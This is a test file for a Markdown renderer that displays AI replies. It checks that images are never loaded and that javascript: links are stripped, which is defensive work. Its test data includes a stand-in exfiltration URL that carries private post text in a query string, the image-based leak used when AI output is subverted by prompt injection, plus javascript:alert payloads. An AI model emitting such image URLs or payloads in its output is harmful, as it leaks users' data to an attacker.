import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const exfiltrate = 'http://127.0.0.1:9/?d=My%20unpublished%20post';

function renderMarkdown(text: string) {
  return render(<Markdown>{text}</Markdown>).container;
}

describe('Markdown from an AI reply', () => {
  it('shows an image as its alt text, never loading it', () => {
    const container = renderMarkdown(`Look: ![chart of growth](${exfiltrate})`);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('Image: chart of growth')).toBeInTheDocument();
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('names an image without alt text by its address, as text', () => {
    const container = renderMarkdown(`![](${exfiltrate})`);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText(`Image: ${exfiltrate}`)).toBeInTheDocument();
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('loads no image from reference definitions, inside links, or as data and javascript URLs', () => {
    const container = renderMarkdown(
      [
        `![ref image][pic]`,
        `[![inside a link](${exfiltrate})](https://example.com)`,
        '![pixel](data:image/png;base64,iVBORw0KGgo=)',
        '![script](javascript:alert(1))',
        '',
        `[pic]: ${exfiltrate}`,
      ].join('\n'),
    );
    expect(container.querySelector('img')).toBeNull();
    for (const alt of ['ref image', 'pixel', 'script'])
      expect(screen.getByText(`Image: ${alt}`)).toBeInTheDocument();
    // The image inside a link stays that link's text (no link inside a link).
    expect(screen.getByRole('link', { name: 'Image: inside a link' })).toHaveAttribute(
      'href',
      'https://example.com',
    );
    expect(container.innerHTML).not.toContain('javascript:');
    expect(container.innerHTML).not.toContain('data:');
  });

  it('skips raw HTML images and removes javascript: links', () => {
    const container = renderMarkdown(
      `<img src="${exfiltrate}"> [click me](javascript:alert(1)) [site](https://example.com)`,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.queryByRole('link', { name: 'click me' })).toBeNull();
    expect(screen.getByText('click me')).toBeInTheDocument();
    expect(screen.getByRole('link', { name: 'site' })).toHaveAttribute('href', 'https://example.com');
  });
});
